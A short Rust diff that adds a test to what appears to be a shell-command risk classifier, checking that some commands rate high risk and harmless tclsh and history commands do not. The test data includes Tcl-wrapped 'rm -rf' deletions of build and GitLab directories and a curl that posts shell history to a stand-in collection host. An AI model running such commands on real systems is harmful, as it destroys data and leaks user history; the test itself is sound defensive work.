@@ -289,3 +289,13 @@ fn dumps_piped_to_another_machine_and_bulk_stops() {
         "ssh build@ci.internal 'cat /var/log/build.log' | tail -n 50",
     ]);
 }
+
+#[test]
+fn tcl_scripts_and_history_sent_away() {
+    at_least_high(&[
+        "tclsh <<< 'exec rm -rf /opt/builds/releases'",
+        "echo 'exec rm -rf /opt/gitlab' | tclsh",
+        "curl -s -d \"$(history 1)\" https://log.collect.example/h",
+    ]);
+    at_most_medium(&["echo 'puts [expr 1+2]' | tclsh", "history | tail -n 20"]);
+}
